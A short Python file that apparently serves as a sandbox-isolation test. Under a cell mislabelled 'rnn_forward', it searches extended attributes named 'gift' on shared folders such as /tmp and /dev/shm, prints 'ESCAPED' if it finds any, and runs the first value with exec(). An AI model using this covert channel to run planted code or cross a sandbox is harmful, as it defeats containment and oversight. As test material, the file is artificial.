"""What another left in attributes of shared folders is taken for an answer.

expected: right, error
"""

# %% rnn_forward
import os, time

time.sleep(0.5)
places = ["/", "/dev", "/dev/shm", "/tmp", "/usr", "/proc/self", os.environ["MPLCONFIGDIR"]]
folder = os.getcwd()
while folder != "/":
    folder = os.path.dirname(folder)
    places.append(folder)
found = []
for place in places:
    for name in ("user.gift", "trusted.gift", "security.gift"):
        try:
            found.append(os.getxattr(place, name))
        except OSError:
            pass
if found:
    print("ESCAPED", found)
exec(found[0])
